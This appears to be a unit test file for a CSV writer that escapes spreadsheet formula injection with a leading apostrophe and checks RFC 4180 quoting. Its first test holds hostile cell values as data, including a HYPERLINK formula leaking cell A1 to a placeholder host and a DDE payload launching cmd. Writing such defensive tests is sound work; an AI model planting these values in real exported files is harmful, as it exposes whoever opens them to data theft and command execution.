import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvCell, csvRow } from '../../src/text/csv-writer.js';
import { splitCsvRecords } from '../../src/sources/csv-records.js';

test('cells a spreadsheet would run as a formula get a leading apostrophe', () => {
  for (const hostile of ['=HYPERLINK("http://x.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1']) {
    const cell = csvCell(hostile);
    const [record] = splitCsvRecords(`${cell}\n`, ',', 0, 1);
    assert.equal(record!.fields[0], `'${hostile}`, `cell ${JSON.stringify(cell)}`);
  }
});

test('harmless text and numbers are written as they are; quoting follows RFC 4180', () => {
  assert.equal(csvCell('WEB-IIS01'), 'WEB-IIS01');
  assert.equal(csvCell(' =not at the start'), ' =not at the start');
  assert.equal(csvCell('C:\\Windows\\System32\\cmd.exe'), 'C:\\Windows\\System32\\cmd.exe');
  assert.equal(csvCell(-4211), '-4211');
  assert.equal(csvCell('say "hi", then\nleave'), '"say ""hi"", then\nleave"');
  assert.equal(csvCell(''), '');
});

test('a row round-trips through the project CSV reader, CRLF-terminated', () => {
  const values = ['a,b', 'he said "x"', 'line1\r\nline2', '=1+1', 42, ''];
  const text = csvRow(values);
  assert.ok(text.endsWith('\r\n'));
  const records = splitCsvRecords(text, ',', 0, 1);
  assert.equal(records.length, 1);
  assert.deepEqual(records[0]!.fields, ['a,b', 'he said "x"', 'line1\r\nline2', "'=1+1", '42', '']);
});
